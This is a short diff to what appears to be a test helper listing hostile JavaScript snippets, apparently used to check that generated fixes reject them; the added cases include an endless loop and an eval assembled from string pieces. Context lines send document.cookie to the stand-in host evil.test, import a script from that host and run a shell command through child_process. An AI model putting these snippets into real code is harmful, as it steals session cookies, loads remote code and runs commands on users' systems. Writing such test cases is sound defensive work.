@@ -86,6 +86,10 @@ def obedient(bad: str, good: str, line: int) -> dict[str, str]:
     return {
         "code that runs": fixed_and(" eval('1');"),
         "code that reaches the network": fixed_and(" fetch('https://evil.test/?c=' + document.cookie);"),
+        "a call of what is there": fixed_and(" load(items);"),
+        "an assignment to what is there": fixed_and(" found.length = 0;"),
+        "a loop without end": fixed_and(" while (true);"),
+        "code put together": fixed_and(" this['e' + 'v' + 'a' + 'l'](note);"),
         "an import": fixed_and(" import('https://evil.test/x.js');"),
         "a process": fixed_and(" require('child_process').exec('id');"),
         "an end of the process": fixed_and(" process.exit(0);"),
